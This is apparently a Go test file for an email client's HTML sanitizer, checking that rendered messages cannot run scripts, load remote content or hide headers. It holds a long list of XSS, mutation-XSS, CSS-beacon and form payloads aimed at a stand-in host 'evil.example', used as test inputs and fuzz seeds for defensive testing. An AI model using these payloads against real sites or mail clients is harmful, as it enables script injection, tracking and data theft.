package render

import (
	"bytes"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/mailtui/mailtui/corpora"
	"github.com/mailtui/mailtui/message"
)

// pageTricks are ways to run something, to load something or to leave the place of a
// message, each from a browser's point of view. "HOST" is a server that must not
// hear of it.
var pageTricks = []struct{ name, html string }{
	{"script", `<script>fetch("https://HOST/")</script>`},
	{"script from elsewhere", `<script src=https://HOST/x.js></script>`},
	{"script in another case", `<ScRiPt src=//HOST/x.js></sCrIpT >`},
	{"script without an end", `<script src=https://HOST/x.js>alert(1)//`},
	{"script in two", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"script behind a NUL", "<\x00script>alert(1)</script><scri\x00pt>alert(1)</script>"},
	{"script in Turkish letters", `<scrİpt>alert(1)</scrİpt><ſcript>alert(1)</ſcript>`},
	{"handler", `<img src=x onerror=alert(1)>`},
	{"handler of the body", `<body onload=alert(1) background="https://HOST/b.png">`},
	{"handler behind a slash", `<img/onerror=alert(1)/src=x>`},
	{"handler in a closing tag", `<p>x</p onclick=alert(1)>`},
	{"handler in quotes that break", "<img src=\"x` `<script>alert(1)</script>\"` `onerror=alert(1)>"},
	{"attribute of the hypertext of frameworks", `<div hx-get="https://HOST/x" hx-trigger="load">x</div>`},
	{"javascript link", `<a href="javascript:alert(1)">x</a>`},
	{"javascript with entities", `<a href="&#106;avascript&colon;alert(1)">x</a>`},
	{"javascript with a tab", "<a href=\"java\tscript:alert(1)\">x</a>"},
	{"javascript with a tab as an entity", `<a href="jav&#x09;ascript:alert(1)">x</a>`},
	{"javascript behind controls", `<a href="&#1;&#32; javascript:alert(1)">x</a>`},
	{"vbscript link", `<a href="vbscript:msgbox(1)">x</a>`},
	{"data link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`},
	{"file link", `<a href="file:///etc/passwd">x</a>`},
	{"link that pings", `<a href="https://shop.example/" ping="https://HOST/">x</a>`},
	{"javascript picture", `<img src="javascript:alert(1)">`},
	{"picture", `<img src="https://HOST/p.png">`},
	{"picture without a scheme", `<img src="//HOST/p.png">`},
	{"picture behind a line break", "<img src=\"ht\ntps://HOST/p.png\">"},
	{"picture by backslashes", `<img src="\\HOST\p.png"><img src="/\HOST/p.png">`},
	{"picture of several", `<img srcset="https://HOST/p.png 2x"><picture><source srcset="https://HOST/p.webp"></picture>`},
	{"picture by its old name", `<image src="https://HOST/p.png">`},
	{"picture of an older browser", `<img lowsrc="https://HOST/p.png" dynsrc="https://HOST/p.avi" longdesc="https://HOST/">`},
	{"picture in a vector graphic", `<svg><image href="https://HOST/p.png" xlink:href="https://HOST/p.png"/></svg>`},
	{"vector graphic in data", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`},
	{"page in data", `<img src="data:text/html,<script>alert(1)</script>">`},
	{"background", `<table background="https://HOST/b.png"><tr><td background=//HOST/b.png>x</td></tr></table>`},
	{"style", `<p style="background:url(https://HOST/b.png)">x</p>`},
	{"style in quotes", `<p style="background:url('https://HOST/b.png')">x</p>`},
	{"style with an escape", `<p style="background:u\72l(https://HOST/b.png)">x</p>`},
	{"style with a comment", `<p style="background:u/**/rl(https://HOST/b.png);x:url/**/(//HOST)">x</p>`},
	{"style of a list", `<li style="list-style:url(//HOST/b.png)">x</li>`},
	{"style of a set", `<p style="background-image:image-set('https://HOST/b.png' 1x)">x</p>`},
	{"style of a source", `<p style="background:src('https://HOST/b.png');--x:url(//HOST/)">x</p>`},
	{"style by a variable", `<p style="--x:url(https://HOST/b.png);background:var(--x)">x</p>`},
	{"style that computes", `<p style="width:expression(alert(1))">x</p>`},
	{"style that behaves", `<p style="behavior:url(#default#time2);-moz-binding:url(https://HOST/x.xml#x)">x</p>`},
	{"style that filters", `<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://HOST/b.png')">x</p>`},
	{"style that points", `<p style="cursor:url(https://HOST/c.cur),auto">x</p>`},
	{"style over the header", `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>`},
	{"style that ends its element", `<p style='font-family:"</style><script>alert(1)</script>"'>x</p>`},
	{"sheet", `<style>p{background:url(https://HOST/b.png)}</style><p>x</p>`},
	{"sheet that imports", `<style>@import url(https://HOST/x.css);@import "https://HOST/y.css";</style>`},
	{"sheet that imports behind a set", `<style>@charset "utf-8";@import 'https://HOST/x.css' screen;p{color:red}</style>`},
	{"sheet with a font", `<style>@font-face{font-family:x;src:url(https://HOST/f.woff)}p{font-family:x}</style>`},
	{"sheet with a namespace", `<style>@namespace url(https://HOST/);p{color:red}</style>`},
	{"sheet that reads attributes", `<style>a[href^="x"]{background:url(https://HOST/?x)}</style>`},
	{"sheet with an escape", `<style>p{background:\75rl(https://HOST/b.png)}@\69mport "https://HOST/"</style>`},
	{"sheet that ends its element", `<style>p{color:red}</style><script>alert(1)</script>`},
	{"sheet whose string ends its element", `<style>p{font-family:"<\/style><img src=https://HOST/p.png>"}</style>`},
	{"sheet of the header", `<style>#fields,body #fields,:root #fields,html>*{display:none}+ *{display:none}</style>`},
	{"sheet around the header", `<style>*{display:none}#part1 + *,:has(#fields){display:none}body{display:none}</style>`},
	{"sheet that nests", `<style>p{&:root #fields{display:none}@media all{#fields{display:none}}}</style>`},
	{"sheet that is not closed", `<style>@media screen{p{color:red;#fields{display:none}`},
	{"sheet in a vector graphic", `<svg><style>@import "https://HOST/x.css";</style></svg>`},
	{"sheet from elsewhere", `<link rel=stylesheet href=https://HOST/x.css><link rel="preload prefetch" href=//HOST/x>`},
	{"names looked up ahead", `<link rel="dns-prefetch" href="//HOST"><link rel=preconnect href=//HOST>`},
	{"refresh", `<meta http-equiv=refresh content="0;url=https://HOST/">`},
	{"policy of its own", `<meta http-equiv=Content-Security-Policy content="default-src *">`},
	{"cookie", `<meta http-equiv=Set-Cookie content="x=y">`},
	{"base", `<base href="https://HOST/"><img src="p.png"><a name="x">x</a>`},
	{"frame", `<iframe src="https://HOST/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"old frame", `<frameset><frame src="https://HOST/"></frameset>`},
	{"layer", `<ilayer src="https://HOST/"></ilayer><layer src="https://HOST/"></layer>`},
	{"portal", `<portal src="https://HOST/"></portal><fencedframe src="https://HOST/"></fencedframe>`},
	{"form", `<form action="https://HOST/"><input name=x autofocus onfocus=alert(1)><button formaction="https://HOST/">x</button></form>`},
	{"form far away", `<input form=x type=image src="https://HOST/p.png"><isindex action="https://HOST/">`},
	{"object", `<object data="https://HOST/x.swf"><param name=movie value="https://HOST/x.swf"></object>`},
	{"embedded", `<embed src="https://HOST/x.swf"><applet archive="https://HOST/x.jar" code=X></applet>`},
	{"picture of several with others", `<img src="" srcset="javascript:alert(1), https://HOST/p.png 2x, data:text/html,x 3x" onerror=alert(1)>`},
	{"button of a form", `<form action="https://HOST/"><input type=image src="https://HOST/p.png" formaction="https://HOST/" onclick=alert(1)></form>`},
	{"button in a vector graphic", `<svg><foreignObject><input type=image src="https://HOST/p.png"></foreignObject></svg>`},
	{"video with a script", `<video poster="javascript:alert(1)" src="https://HOST/v.mp4"><script>alert(1)</script><source src="https://HOST/v.mp4" onerror=alert(1)></video>`},
	{"video", `<video poster="https://HOST/p.png" src="https://HOST/v.mp4"><track src="https://HOST/t.vtt"></video>`},
	{"audio", `<audio src="https://HOST/a.mp3" autoplay><source src="https://HOST/a.ogg"></audio><bgsound src="https://HOST/a.wav">`},
	{"marquee", `<marquee onstart=alert(1)>x</marquee>`},
	{"details", `<details open ontoggle=alert(1)><summary>x</summary></details>`},
	{"dialog", `<dialog open>x</dialog><div popover onbeforetoggle=alert(1)>x</div>`},
	{"map", `<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src="https://HOST/p.png">`},
	{"quotation", `<blockquote cite="https://HOST/">x</blockquote><q cite="javascript:alert(1)">x</q>`},
	{"XML", `<?xml-stylesheet href="https://HOST/x.css"?><xml id=x><![CDATA[<img src=https://HOST/p.png>]]></xml>`},
	{"conditional comment", `<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if true]><script>alert(1)</script><![endif]>`},
	{"comment that ends early", `<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->`},
	{"mutation by mathematics", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
	{"mutation by a vector graphic", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"mutation by noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
	{"mutation by a form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`},
	{"mutation by a text field", `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`},
	{"mutation by raw text", `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img src=//HOST/></noembed>`},
	{"mutation by a title", `<title><a title="</title><img src=x onerror=alert(1)>"></title>`},
	{"mutation by a template", `<template><script>alert(1)</script></template><template shadowrootmode=open><img src=//HOST/p></template>`},
	{"mutation by annotations", `<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`},
	{"foreign object", `<svg><foreignObject><iframe src=https://HOST/></iframe></foreignObject><use href="data:image/svg+xml,x"/></svg>`},
	{"animation", `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>`},
	{"names of the document", `<img name=getElementById id=cookie src="https://HOST/p.png">`},
	{"picture in another case", `<img src="HTTP://HOST/p.png"><img src="HTTPS://HOST/p.png">`},
	{"sheet of many screens", `<style>` + strings.Repeat("@media all{", 9) + `p{color:red}</style>`},
	{"plain text for ever", `<plaintext><script>alert(1)</script>`},
}

// letter is a message of one part.
func letter(kind, body string) *message.Message {
	m, _ := message.Parse(strings.NewReader("From: Ada <ada@home.example>\r\nSubject: <b>Plan</b>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: " + kind + "; charset=utf-8\r\n\r\n" + body))
	return m
}

func TestPageDisarms(t *testing.T) {
	t.Parallel()
	if len(pageTricks) < 25 {
		t.Fatal("there are too few tricks")
	}
	for _, tt := range pageTricks {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			body := "<p>before</p>" + strings.ReplaceAll(tt.html, "HOST", "evil.example")
			for _, remote := range []bool{false, true} {
				page := Page(letter("text/html", body), PageOptions{Remote: remote})
				checkPage(t, page, remote)
				if !bytes.Contains(page, []byte("before")) {
					t.Errorf("the harmless words are gone:\n%s", page)
				}
				if !remote && bytes.Contains(page, []byte("//evil.example")) {
					t.Errorf("the page names the host:\n%s", page)
				}
			}
		})
	}
}

// TestPageCheckSeesTricks: the check of the tests above finds what is wrong with
// the tricks as they are, so that it can fail.
func TestPageCheckSeesTricks(t *testing.T) {
	t.Parallel()
	blind := 0
	for _, tt := range pageTricks {
		raw := strings.ReplaceAll(tt.html, "HOST", "evil.example")
		if len(faults([]byte("<body>"+raw), false)) == 0 {
			blind++
			t.Logf("%s passes as it is", tt.name)
		}
	}
	// Those that only mutate, or fall apart when they are parsed.
	if blind > len(pageTricks)/10 {
		t.Errorf("%d of %d tricks pass the check as they are", blind, len(pageTricks))
	}
}

func checkPage(t *testing.T, page []byte, remote bool) {
	t.Helper()
	if list := faults(page, remote); len(list) > 0 {
		t.Errorf("the page has %q:\n%s", list, page)
	}
	policies := bytes.Count(page, []byte("http-equiv"))
	if policies != 1 || bytes.Contains(page, []byte("img-src data: https:")) != remote {
		t.Errorf("the page has %d policies, or the wrong one:\n%.600s", policies, page)
	}
}

var (
	pageElements = setOf(`a abbr acronym address article aside b bdi bdo big blockquote body br caption center cite code col
		colgroup dd del details dfn dir div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 head header hr
		html i img ins kbd li main mark menu meta nav ol p pre q rp rt ruby s samp section small span strike strong
		style sub summary sup table tbody td tfoot th thead time title tr tt u ul var wbr`)
	pageAttributes = setOf(`align alt bgcolor border cellpadding cellspacing charset class color colspan content dir face height
		hidden href http-equiv id lang name nowrap open rel reversed rowspan size src start style target title type
		valign value width`)
	reLoads  = regexp.MustCompile(`(?i)(url|image-set|src|image|var|expression)\(|@|\\|<|behavior:|-moz-binding:|progid:|position:`)
	reString = regexp.MustCompile(`"[^"]*"|'[^']*'`)
	reMeta   = regexp.MustCompile(`^(default-src 'none'; .*|no-referrer|width=device-width)$`)
	reData   = regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$`)
)

func setOf(list string) map[string]bool {
	m := map[string]bool{}
	for _, w := range strings.Fields(list) {
		m[w] = true
	}
	return m
}

// faults returns what in a page could run, load or hide something, as a browser
// with and without scripts reads it.
func faults(page []byte, remote bool) []string {
	var list []string
	for _, scripting := range []bool{true, false} {
		root, err := html.ParseWithOptions(bytes.NewReader(page), html.ParseOptionEnableScripting(scripting))
		if err != nil {
			return []string{err.Error()}
		}
		each(root, func(n *html.Node) bool {
			if n.Type == html.CommentNode {
				list = append(list, "comment "+n.Data)
			}
			if n.Type != html.ElementNode {
				return true
			}
			if n.Namespace != "" || !pageElements[n.Data] {
				list = append(list, "<"+n.Data+">")
			}
			if n.Data == "style" && n.FirstChild != nil {
				list = append(list, sheetFaults(n.FirstChild.Data)...)
			}
			for _, a := range n.Attr {
				if !fine(n, a, remote) {
					list = append(list, n.Data+" "+a.Key+"="+a.Val)
				}
			}
			return true
		})
	}
	return list
}

// sheetFaults returns the rules of a sheet that load something, or are not only
// about a part of the message.
func sheetFaults(sheet string) []string {
	if _, theirs, ok := strings.Cut(sheet, ".note{color:#666}\n"); ok {
		sheet = theirs // what is before it is our own
	}
	var list []string
	for line := range strings.Lines(sheet) {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "@media"); ok {
			_, line, _ = strings.Cut(rest, "{")
		}
		selectors, _, _ := strings.Cut(reString.ReplaceAllString(line, "''"), "{")
		for _, s := range strings.Split(selectors, ",") {
			inside := regexp.MustCompile(`^#part\d+( [^+~>]|$)`).MatchString(s)
			if line != "" && line != "}" && !inside || strings.ContainsAny(s, ":&") {
				list = append(list, "rule of "+s)
			}
		}
		if reLoads.MatchString(line) {
			list = append(list, "style "+line)
		}
	}
	return list
}

func fine(n *html.Node, a html.Attribute, remote bool) bool {
	switch {
	case a.Namespace != "" || !pageAttributes[a.Key]:
		return false
	case a.Key == "href":
		return n.Data == "a" && regexp.MustCompile(`^(https?://|mailto:)[!-~]+$`).MatchString(a.Val)
	case a.Key == "src":
		return n.Data == "img" && (reData.MatchString(a.Val) || remote && strings.HasPrefix(a.Val, "https://"))
	case a.Key == "style":
		return !reLoads.MatchString(a.Val)
	case a.Key == "http-equiv" || a.Key == "charset" || a.Key == "name":
		return n.Data == "meta"
	case a.Key == "content":
		return n.Data == "meta" && reMeta.MatchString(a.Val)
	default:
		return true
	}
}

func TestPageKeepsLooks(t *testing.T) {
	t.Parallel()
	body := `<html><head><style>body{color:#333}.x > td, a{color:red;mso-line:1}@media only screen and (max-width:600px){` +
		`.col{width:100% !important}}</style></head><body bgcolor="#eeeeee" style="margin:0"><table width="600" class="x"><tr>` +
		`<td style="padding:10px;color:rgb(1,2,3);font-family:'Segoe UI',serif" colspan=2>Price <del>5</del></td></tr>` +
		`</table><a href="https://shop.example/?id=1&utm_source=mail">buy</a><p hidden>secret</p>` +
		`<svg><text>drawn</text></svg></body></html>`
	page := string(Page(letter("text/html", body), PageOptions{}))
	checkPage(t, []byte(page), false)
	for _, want := range []string{
		"#part1{color:#333;}", "#part1 .x>td,#part1 a{color:red;}",
		"@media only screen and (max-width:600px){#part1 .col{width:100%!important;}",
		`<div bgcolor="#eeeeee" style="background-color:#eeeeee;margin:0;">`, `width="600"`, `padding:10px;color:rgb(1,2,3);font-family:&#39;Segoe UI&#39;,serif;`,
		`<del>5</del>`, `href="https://shop.example/?id=1"`, `rel="noreferrer noopener"`, `<p hidden="">`,
		"&lt;b&gt;Plan&lt;/b&gt;", "Ada &lt;ada@home.example&gt;",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("%s is not in\n%s", want, page)
		}
	}
	if strings.Contains(page, "drawn") {
		t.Errorf("the words of a drawing are in\n%s", page)
	}
}

// TestPageLinks: links lead where they lead in the message, those below its base
// and those of parts of a picture, too.
func TestPageLinks(t *testing.T) {
	t.Parallel()
	base := `<base href="https://news.example/2026/">`
	tests := []struct{ name, html, want string }{
		{"whole", `<a href="https://a.example/x">x</a>`, "https://a.example/x"},
		{"below the base", base + `<a href="story.html?q=1#end">x</a>`, "https://news.example/2026/story.html?q=1#end"},
		{"a base behind it", `<a href="/abs">x</a>` + base, "https://news.example/abs"},
		{"of another scheme", base + `<a href="mailto:ada@a.example">x</a>`, "mailto:ada@a.example"},
		{"a place in the message", base + `<a href="#top">x</a>`, ""},
		{"below nothing", `<a href="story.html">x</a>`, ""},
		{"a base that runs something", `<base href="javascript:alert(1)//"><a href="story.html">x</a>`, ""},
		{"a link that runs something", base + `<a href="javascript:alert(1)">x</a>`, ""},
		{"a base that is too long", `<base href="https://a.example/` + strings.Repeat("x", 400) + `"><a href="story.html">x</a>`, ""},
		{"an area", base + `<map name=m><area href="/shoes" alt=x></map>`, "https://news.example/shoes"},
		{"an area without words", `<map><area href="https://x.example/hats"></map>`, "https://x.example/hats"},
		{"an area that runs something", `<map><area href="javascript:alert(1)" alt=x></map>`, ""},
		{"without scripts", `<noscript><a href="https://a.example/n">x</a></noscript>`, "https://a.example/n"},
		{"instead of a film", `<video><a href="https://a.example/v">x</a></video>`, "https://a.example/v"},
		{"instead of an object", `<object data=x><a href="https://a.example/o">x</a></object>`, "https://a.example/o"},
	}
	for _, tt := range tests {
		page := string(Page(letter("text/html", tt.html), PageOptions{}))
		checkPage(t, []byte(page), false)
		_, part, _ := strings.Cut(page, "<section")
		link := ""
		if _, after, found := strings.Cut(part, `href="`); found {
			link, _, _ = strings.Cut(after, `"`)
		}
		if html.UnescapeString(link) != tt.want {
			t.Errorf("%s: %q, want %q in\n%s", tt.name, link, tt.want, part)
		}
		if !strings.Contains(part, "x") {
			t.Errorf("%s: the words are lost:\n%s", tt.name, part)
		}
	}
}

// TestPicturesBelowBase: a picture is below the base of its page, as a link is.
func TestPicturesBelowBase(t *testing.T) {
	t.Parallel()
	body := `<base href="https://news.example/2026/"><img src="a.png" alt=A><img src="cid:b" alt=B>` +
		`<video poster="/c.png"></video><img src="data:image/png;base64,eA==" alt=D>`
	m := letter("text/html", body)
	var got []string
	for _, i := range Images(m) {
		got = append(got, i.URL)
	}
	if want := "https://news.example/2026/a.png https://news.example/c.png"; strings.Join(got, " ") != want {
		t.Errorf("images %q, want %s", got, want)
	}
	page := string(Page(m, PageOptions{Remote: true}))
	checkPage(t, []byte(page), true)
	for _, want := range got {
		if !strings.Contains(page, want) {
			t.Errorf("no %s in\n%s", want, page)
		}
	}
	if d := Render(m, Options{Width: 60}); d.Stats.RemoteImages != 2 {
		t.Errorf("%+v", d.Stats)
	}
}

// TestPageHasFlatSheets: a browser is not asked to nest what a stranger nests.
func TestPageHasFlatSheets(t *testing.T) {
	t.Parallel()
	sheet := cleanSheet("a{color:red}"+strings.Repeat("@media all{", 9)+"a{color:blue}", "#part1")
	if want := "#part1 a{color:red;}\n@media all{}\n"; sheet != want {
		t.Errorf("got %q, want %q", sheet, want)
	}
}

func TestPageOfPlainText(t *testing.T) {
	t.Parallel()
	page := string(Page(letter("text/plain", "a <b> & www.shop.example/?utm_x=1.\n  two\n"), PageOptions{}))
	checkPage(t, []byte(page), false)
	want := `<pre>a &lt;b&gt; &amp; <a href="http://www.shop.example/" rel="noreferrer noopener" target="_blank">` +
		"www.shop.example/?utm_x=1</a>.\n  two\n"
	if !strings.Contains(page, want) {
		t.Errorf("got\n%s", page)
	}
}

// TestPageOfLargeHTML: what is nested too deep, or too much, is a text.
func TestPageOfLargeHTML(t *testing.T) {
	t.Parallel()
	for name, body := range map[string]string{
		"deep": strings.Repeat("<div>", 1000) + "deep", "large": "deep" + strings.Repeat("<br>", maxPageNodes),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := letter("text/html", body)
			page := Page(m, PageOptions{})
			checkPage(t, page, false)
			if !bytes.Contains(page, []byte("<pre>deep")) {
				t.Errorf("got\n%.2000s", page)
			}
			if list := Images(m); len(list) > 0 {
				t.Errorf("it has the pictures %v", list)
			}
		})
	}
}

// TestPageOfCorpus makes a page of every message of the shared test mail.
func TestPageOfCorpus(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.Join(corpora.Path(t), "*", "*"))
	if err != nil {
		t.Fatal(err)
	}
	pages := 0
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			continue // a folder
		}
		if filepath.Ext(file) == ".html" {
			raw = append([]byte("Content-Type: text/html\r\n\r\n"), raw...)
		}
		m, err := message.Parse(bytes.NewReader(raw))
		if err != nil {
			t.Fatal(err)
		}
		for _, remote := range []bool{false, true} {
			page := Page(m, PageOptions{Remote: remote})
			if list := faults(page, remote); len(list) > 0 {
				t.Errorf("%s becomes a page with %q", filepath.Base(file), list)
			}
		}
		pages++
	}
	if t.Logf("%d pages", pages); pages < 300 {
		t.Errorf("only %d pages were made", pages)
	}
}

func FuzzPage(f *testing.F) {
	for _, tt := range pageTricks {
		f.Add([]byte(tt.html))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		for _, remote := range []bool{false, true} {
			if list := faults(Page(letter("text/html", string(body)), PageOptions{Remote: remote}), remote); len(list) > 0 {
				t.Errorf("%q becomes a page with %q", body, list)
			}
		}
	})
}

func FuzzPageStyle(f *testing.F) {
	for _, tt := range pageTricks {
		f.Add(tt.html)
	}
	f.Add("p{color:red}@media all{a > b,html #x{width:1px}}")
	f.Fuzz(func(t *testing.T, source string) {
		if list := sheetFaults(".note{color:#666}\n" + cleanSheet(source, "#part1")); len(list) > 0 {
			t.Errorf("%q becomes a sheet with %q", source, list)
		}
		if style := cleanStyle(source); reLoads.MatchString(style) || strings.ContainsAny(style, "{}") {
			t.Errorf("%q becomes the style %q", source, style)
		}
	})
}
